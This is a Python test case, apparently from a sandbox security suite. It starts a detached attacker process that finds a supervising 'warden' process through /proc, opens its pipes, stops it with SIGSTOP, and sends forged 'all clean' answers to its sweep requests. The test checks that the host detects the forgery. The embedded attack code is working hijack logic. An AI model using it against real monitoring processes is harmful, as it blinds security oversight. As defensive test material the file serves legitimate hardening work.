# why: guest code leaves a marked, detached attacker on the session's warden: it opens the warden's pipes through /proc/<pid>/fd (runc refuses: the warden is non-dumpable; this gVisor allows it), stops the warden, steals its next sweep request and answers it "all clean" itself. The forged answer lacks the MAC only the warden can make, so the host ignores it, stops trusting the warden when no true answer comes, and sweeps with fresh execs: the attacker is gone before the next call
# tiers: session
# expect: ok
# has: attacker
import os, subprocess, time
ATTACK = r'''
import os, sys, time
w = None
for d in os.listdir("/proc"):
    if d.isdigit() and int(d) != os.getpid():
        try:
            if b"PR_SET_DUMPABLE" in open("/proc/%s/cmdline" % d, "rb").read():
                w = d
        except OSError:
            pass
try:
    rd = os.open("/proc/%s/fd/0" % w, os.O_RDONLY)
    wr = os.open("/proc/%s/fd/1" % w, os.O_WRONLY)
except OSError as e:
    open(sys.argv[1], "w").write("refused: %s" % e.strerror)
    time.sleep(300)
os.kill(int(w), 19)  # SIGSTOP: the next request is surely the attacker's
open(sys.argv[1], "w").write("in place: the warden's pipes are open")
while True:
    for line in os.read(rd, 65536).splitlines():
        nonce = line.split(b'"nonce":"')[-1].split(b'"')[0]
        os.write(wr, nonce + b' {"left":0,"gone":[],"kib":0} ' + b"0" * 64 + b"\n")
'''
note = "/tmp/attacker-%d" % os.getpid()
subprocess.Popen(["python3", "-c", ATTACK, note, "plimsoll-leftover"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
for _ in range(500):
    if os.path.exists(note) and os.path.getsize(note):
        break
    time.sleep(0.01)
print("attacker", open(note).read())
